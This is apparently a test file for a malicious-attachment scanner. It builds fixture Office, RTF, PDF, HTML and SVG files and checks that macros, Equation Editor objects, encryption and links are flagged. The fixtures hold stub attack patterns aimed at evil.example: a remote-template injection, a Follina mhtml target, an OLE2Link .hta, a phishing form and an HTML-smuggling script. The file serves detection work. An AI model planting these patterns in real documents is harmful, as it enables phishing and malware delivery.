import { describe, expect, it } from "vitest";
import { targetLocation } from "../../../src/core/attachments/content/ooxml.js";
import { buildOle, ole10Native } from "../../helpers/ole.js";
import { buildZip } from "../../helpers/zip.js";
import { facts, inspect, names, notes } from "../../helpers/inspect.js";
import * as f from "../../helpers/formats.js";

const text = (s: string): Uint8Array => new TextEncoder().encode(s);
const EQUATION_CLSID = "{0002CE02-0000-0000-C000-000000000046}";
/** FibBase of a Word 97 document: wIdent 0xA5EC, flags at 0x0A (fEncrypted = 0x0100). */
const fib = (encrypted: boolean, size = 600): Uint8Array => {
  const b = new Uint8Array(size);
  b.set([0xec, 0xa5], 0);
  b[11] = encrypted ? 0x01 : 0;
  return b;
};
/** BIFF8 workbook globals: BOF, optional FilePass, BoundSheet8 records, EOF. */
function workbook(sheets: readonly { name: string; macro?: boolean; state?: number }[], encrypted = false): Uint8Array {
  const out: number[] = [0x09, 0x08, 0x10, 0x00, ...new Array(16).fill(0)];
  if (encrypted) out.push(0x2f, 0x00, 0x02, 0x00, 0, 0);
  for (const s of sheets) {
    const name = [...s.name].map((c) => c.charCodeAt(0));
    const body = [0, 0, 0, 0, s.state ?? 0, s.macro ? 1 : 0, name.length, 0, ...name];
    out.push(0x85, 0x00, body.length, 0, ...body);
  }
  out.push(0x0a, 0x00, 0x00, 0x00);
  // Large enough to live in regular sectors rather than the mini stream.
  return Uint8Array.from([...out, ...new Array(5000).fill(0)]);
}

describe("OLE compound files (MS-CFB)", () => {
  it("tells Word, Excel, PowerPoint, MSI, Ichitaro and Outlook messages apart", () => {
    expect(inspect(buildOle({ streams: { WordDocument: fib(false), "1Table": "x" } })).kind).toBe("ole-word");
    expect(inspect(buildOle({ streams: { Workbook: workbook([{ name: "Sheet1" }]) } })).kind).toBe("ole-excel");
    expect(inspect(buildOle({ streams: { "PowerPoint Document": "x" } })).kind).toBe("ole-powerpoint");
    expect(inspect(buildOle({ streams: { "\u0005SummaryInformation": "x" }, clsids: { "": "{000C1084-0000-0000-C000-000000000046}" } })).kind).toBe("msi");
    expect(inspect(buildOle({ streams: { "DocumentText": "x", "\u0004JSRV_SegmentInformation": "x" } })).kind).toBe("ichitaro");
    expect(inspect(buildOle({ streams: { "__properties_version1.0": "x", "__substg1.0_0037001F": "x" } })).kind).toBe("outlook-message");
  });

  it("finds a VBA project (Word: Macros/VBA, Excel: _VBA_PROJECT_CUR/VBA)", () => {
    expect(facts(inspect(buildOle({ streams: { WordDocument: fib(false), "Macros/VBA/dir": "x", "Macros/VBA/_VBA_PROJECT": "x", "Macros/PROJECT": "x" } })))).toEqual([
      "vba-macros=Macros/VBA",
    ]);
    expect(facts(inspect(buildOle({ streams: { Workbook: workbook([{ name: "Sheet1" }]), "_VBA_PROJECT_CUR/VBA/dir": "x" } })))).toEqual(["vba-macros=_VBA_PROJECT_CUR/VBA"]);
  });

  it("finds Excel 4.0 macro sheets in the workbook globals, hidden ones included", () => {
    const r = inspect(buildOle({ streams: { Workbook: workbook([{ name: "Sheet1" }, { name: "Auto_Open", macro: true, state: 2 }]) } }));
    expect(facts(r)).toEqual(["xlm-macros=Workbook: Auto_Open (very hidden)"]);
  });

  it("finds password protection: Word's fEncrypted, Excel's FilePass, encrypted OOXML packages", () => {
    expect(facts(inspect(buildOle({ streams: { WordDocument: fib(true) } })))).toEqual(["encrypted-document=WordDocument"]);
    expect(facts(inspect(buildOle({ streams: { Workbook: workbook([{ name: "S" }], true) } })))).toEqual(["encrypted-document=Workbook"]);
    const package_ = inspect(buildOle({ streams: { EncryptionInfo: "x", EncryptedPackage: new Uint8Array(5000) } }));
    expect(package_.kind).toBe("ole-encrypted");
    expect(facts(package_)).toEqual(["encrypted-document=EncryptedPackage"]);
  });

  it("finds Equation Editor objects by stream, class ID and ProgID", () => {
    const r = inspect(buildOle({ streams: { WordDocument: fib(false), "ObjectPool/_1234/Equation Native": "x" }, clsids: { "ObjectPool/_1234": EQUATION_CLSID } }));
    expect(facts(r)).toEqual(expect.arrayContaining(["ole-object=ObjectPool", "equation-editor=ObjectPool/_1234/Equation Native", "equation-editor=ObjectPool/_1234"]));
    expect(facts(inspect(buildOle({ streams: { "\u0001CompObj": "...Microsoft Equation 3.0...Equation.3" } })))).toEqual(["equation-editor=\\x01CompObj"]);
  });

  it("lists a packaged file (an icon in the document) and what it is", () => {
    const r = inspect(buildOle({ streams: { WordDocument: fib(false), "ObjectPool/_1/\u0001Ole10Native": ole10Native("請求書.pdf.exe", f.pe()) } }));
    expect(r.entries.map((e) => [e.name, e.kind])).toEqual([["請求書.pdf.exe", "pe-executable"]]);
    expect(facts(r)).toEqual(expect.arrayContaining(["embedded-file=ObjectPool/_1/\\x01Ole10Native: 請求書.pdf.exe", "executable-entry=請求書.pdf.exe", "disguised-entry=請求書.pdf.exe"]));
  });

  it("stays quiet on a plain document", () => {
    const r = inspect(buildOle({ streams: { WordDocument: fib(false, 6000), "1Table": new Uint8Array(5000), "\u0005SummaryInformation": "x" } }));
    expect(r.kind).toBe("ole-word");
    expect(r.indicators).toEqual([]);
    expect(r.notes).toEqual([]);
  });

  it("survives a directory whose sibling links form a loop", () => {
    const ole = buildOle({ streams: { a: "x", b: "y" } });
    // Point entry 2's right sibling back at entry 1 (a cycle through the tree).
    const dir = (new DataView(ole.buffer).getUint32(48, true) + 1) * 512;
    new DataView(ole.buffer).setUint32(dir + 2 * 128 + 72, 1, true);
    expect(() => inspect(ole)).not.toThrow();
  });
});

describe("OOXML (ECMA-376 packages)", () => {
  it("a plain .docx has no findings", () => {
    const r = inspect(f.docx({ hyperlink: "https://www.example.jp/" }));
    expect(r.kind).toBe("ooxml-word");
    expect(r.indicators).toEqual([]);
  });

  it("finds vbaProject.bin and a macro-enabled main content type", () => {
    expect(facts(inspect(f.docx({ macros: true, macroEnabledType: true })))).toEqual([
      "macro-enabled-format=word/document.xml application/vnd.ms-word.document.macroEnabled.main+xml",
      "vba-macros=word/vbaProject.bin",
    ]);
  });

  it("finds a remote attached template (template injection) but not a local one", () => {
    expect(facts(inspect(f.docx({ template: "https://evil.example/office/t.dotm" })))).toEqual(["remote-template=attachedTemplate: https://evil.example/office/t.dotm"]);
    expect(facts(inspect(f.docx({ template: "\\\\198.51.100.7\\share\\t.dotm" })))).toEqual(["remote-template=attachedTemplate: \\\\198.51.100.7\\share\\t.dotm"]);
    expect(inspect(f.docx({ template: "file:///C:/Users/taro/AppData/Roaming/Microsoft/Templates/Normal.dotm" })).indicators).toEqual([]);
  });

  it("finds external OLE objects (CVE-2017-0199, Follina's mhtml: target)", () => {
    const target = "mhtml:https://evil.example/a.html!x-usc:https://evil.example/a.html";
    expect(facts(inspect(f.docx({ externalObject: target })))).toEqual([`external-object=oleObject: ${target}`]);
  });

  it("opens embedded OLE objects: an Equation Editor object inside a .docx", () => {
    const equation = buildOle({ streams: { "Equation Native": "x" }, clsids: { "": EQUATION_CLSID } });
    const r = inspect(f.docx({ embedding: equation }));
    expect(facts(r)).toEqual(
      expect.arrayContaining(["ole-object=word/embeddings/oleObject1.bin", "equation-editor=word/embeddings/oleObject1.bin/Equation Native"]),
    );
  });

  it("lists a packaged program embedded in a .docx", () => {
    const r = inspect(f.docx({ embedding: buildOle({ streams: { "\u0001Ole10Native": ole10Native("setup.js", text("WScript.Echo(1)")) } }) }));
    expect(names(r)).toContain("word/embeddings/oleObject1.bin/setup.js");
    expect(facts(r)).toContain("executable-entry=word/embeddings/oleObject1.bin/setup.js");
  });

  it("recognises Excel and PowerPoint packages, macro sheets and ActiveX", () => {
    const xlsx = inspect(
      buildZip([
        { name: "[Content_Types].xml", data: '<Types><Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>' },
        { name: "xl/workbook.xml", data: "<workbook/>" },
        { name: "xl/macrosheets/sheet1.xml", data: "<xm:macrosheet/>" },
        { name: "xl/activeX/activeX1.xml", data: "<ax:ocx/>" },
      ]),
    );
    expect(xlsx.kind).toBe("ooxml-excel");
    expect(facts(xlsx)).toEqual(expect.arrayContaining(["xlm-macros=xl/macrosheets/sheet1.xml", "activex=xl/activeX/activeX1.xml"]));
    expect(inspect(buildZip([{ name: "[Content_Types].xml", data: "<Types/>" }, { name: "ppt/presentation.xml", data: "<p/>" }])).kind).toBe("ooxml-powerpoint");
  });

  it("classifies targets: other machines are remote, this computer's paths are local", () => {
    for (const remote of ["https://a.example/t.dotm", "http://10.0.0.1/x", "\\\\host\\share\\t.dotm", "file://host/share/t.dotm", "file:////host/share/t", "mhtml:http://a.example/x!y"]) {
      expect(targetLocation(remote), remote).toBe("remote");
    }
    for (const local of ["file:///C:/Templates/Normal.dotm", "C:\\Templates\\a.dotx", "../media/image1.png", "file://localhost/C:/x"]) {
      expect(targetLocation(local), local).toBe("local");
    }
  });
});

describe("RTF", () => {
  it("finds an Equation.3 object, through hex broken up with junk, and \\objupdate", () => {
    const equation = buildOle({ streams: { "Equation Native": "x" }, clsids: { "": EQUATION_CLSID } });
    const r = inspect(f.rtfObject("Equation.3", equation, { objupdate: true, junk: true, objclass: false }));
    expect(r.kind).toBe("rtf");
    expect(facts(r)).toEqual(expect.arrayContaining(["rtf-objupdate", "rtf-object=Equation.3", "equation-editor=RTF object 1 (Equation.3)"]));
  });

  it("finds the Equation Editor even when the object header is damaged on purpose", () => {
    const damaged = f.rtfObject("XXXXXXXXXX", text("...Equation Native...garbage"), { objclass: false });
    expect(facts(inspect(damaged))).toContain("equation-editor=RTF object 1 (XXXXXXXXXX)");
  });

  it("lists a packaged file and finds a linked object's URL", () => {
    expect(names(inspect(f.rtfObject("Package", ole10Native("invoice.exe", f.pe(), false))))).toEqual(["RTF object 1 (Package)/invoice.exe"]);
    const moniker = Uint8Array.from([...new Array(24).fill(0), ...[..."http://evil.example/x.hta"].flatMap((c) => [c.charCodeAt(0), 0]), 0, 0]);
    expect(facts(inspect(f.rtfObject("OLE2Link", moniker, { format: 2 })))).toContain("external-object=RTF object 1 (OLE2Link): http://evil.example/x.hta");
  });

  it("finds a remote template and skips \\bin data", () => {
    expect(facts(inspect("{\\rtf1{\\*\\template https://evil.example/t.dot}hello}"))).toEqual(["remote-template=\\template: https://evil.example/t.dot"]);
    expect(inspect("{\\rtf1 \\bin12 {\\objupdate}}} text}").indicators).toEqual([]);
  });

  it("a plain RTF has no findings", () => {
    expect(inspect("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 MS Mincho;}}\\pard 見積書\\par}").indicators).toEqual([]);
  });
});

describe("PDF (ISO 32000)", () => {
  it("finds JavaScript run on opening", () => {
    const r = inspect(f.pdf({ objects: ["<< /Type /Catalog /OpenAction 2 0 R >>", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"] }));
    expect(r.kind).toBe("pdf");
    expect(facts(r)).toEqual(["pdf-auto-action=/OpenAction", "pdf-javascript=/JavaScript", "pdf-javascript=/JS"]);
  });

  it("decodes hex-escaped names (/J#61vaScript) and reports the escape itself", () => {
    expect(facts(inspect(f.pdf({ objects: ["<< /S /J#61vaScript /J#53 (x) >>"] })))).toEqual([
      "pdf-javascript=/JavaScript",
      "pdf-obfuscated-name=/J#61vaScript",
      "pdf-javascript=/JS",
      "pdf-obfuscated-name=/J#53",
    ]);
  });

  it("reads names and link targets inside compressed object streams", () => {
    const r = inspect(
      f.pdf({
        objects: ["<< /Type /Catalog >>"],
        compressed: ["<< /S /Launch /Win << /F (cmd.exe) >> >>", "<< /Names << /EmbeddedFiles 9 0 R >> >>", "<< /Type /Filespec /UF (invoice.pdf.exe) >>", "<< /S /URI /URI <68747470733a2f2f782e6578616d706c652f> >>"],
      }),
    );
    expect(facts(r)).toEqual(
      expect.arrayContaining(["pdf-launch=/Launch", "pdf-launch=cmd.exe", "pdf-embedded-file=/EmbeddedFiles", "pdf-embedded-file=invoice.pdf.exe", "pdf-uri"]),
    );
    expect(r.uris).toEqual(["https://x.example/"]);
  });

  it("collects /URI targets (literal and hex strings) for the link rules", () => {
    const r = inspect(f.pdf({ objects: ["<< /A << /S /URI /URI (https://www.example.jp/a\\)b) >> >>", "<< /A << /S /URI /URI <68747470733A2F2F6576696C2E6578616D706C652F> >> >>"] }));
    expect(r.uris).toEqual(["https://www.example.jp/a)b", "https://evil.example/"]);
    expect(facts(r)).toEqual(["pdf-uri"]);
  });

  it("ignores names in strings, comments and ordinary stream data", () => {
    const r = inspect(f.pdf({ objects: ["<< /Title (About /JavaScript and /Launch) >>", "% /OpenAction in a comment", "<< /Length 18 >>\nstream\n/JS /Launch /AA xx\nendstream"] }));
    expect(r.indicators).toEqual([]);
  });

  it("an ordinary PDF with an outline and a form has only the form noted", () => {
    const r = inspect(f.pdf({ objects: ["<< /Type /Catalog /OpenAction [3 0 R /Fit] /AcroForm 2 0 R >>", "<< /Fields [] >>"] }));
    expect(facts(r)).toEqual(["pdf-auto-action=/OpenAction", "pdf-acroform=/AcroForm"]);
  });

  it("says when encryption hides its strings and compressed objects", () => {
    const r = inspect(f.pdf({ objects: ["<< /URI (https://x.example/) >>"], trailer: "<< /Root 1 0 R /Encrypt 5 0 R >>" }));
    expect(r.uris).toEqual([]);
    expect(notes(r)).toEqual(["the PDF is encrypted, so its strings (such as link targets) and compressed objects were not read"]);
  });
});

describe("HTML and SVG", () => {
  it("finds a credential form, with where it posts", () => {
    const r = inspect('<html><body><form method="post" action="https://evil.example/p.php"><input name="u"><input type="password" name="p"></form></body></html>');
    expect(facts(r)).toEqual(["html-form=https://evil.example/p.php", "html-password-field=https://evil.example/p.php"]);
  });

  it("finds HTML smuggling (a file built in the page and saved)", () => {
    const page = '<html><script>var d=atob("TVqQAA==");var b=new Blob([d],{type:"application/octet-stream"});var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="invoice.iso";a.click();</script></html>';
    expect(facts(inspect(page)).map((x) => x.split("=")[0])).toEqual(["html-script", "html-smuggling"]);
  });

  it("finds data: payloads and redirects, and not inline pictures", () => {
    expect(facts(inspect('<html><a href="data:text/html;base64,PGh0bWw+" download>open</a></html>'))).toEqual(["html-data-uri=data:text/html"]);
    expect(inspect('<html><img src="data:image/png;base64,iVBORw0KGgo="></html>').indicators).toEqual([]);
    expect(facts(inspect('<html><meta http-equiv="refresh" content="0;url=https://evil.example/"></html>'))).toEqual(['html-redirect=http-equiv="refresh"']);
  });

  it("finds script in SVG", () => {
    const r = inspect("<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(1)'><script>location.href='https://evil.example'</script></svg>");
    expect(r.kind).toBe("svg");
    expect(facts(r)).toEqual(["html-script=1 <script>", "html-script=onload=", "html-redirect=location.href"]);
  });

  it("a plain page has no findings", () => {
    expect(inspect("<html><body><p>Thank you for your order.</p><a href='https://shop.example/'>shop</a></body></html>").indicators).toEqual([]);
  });
});
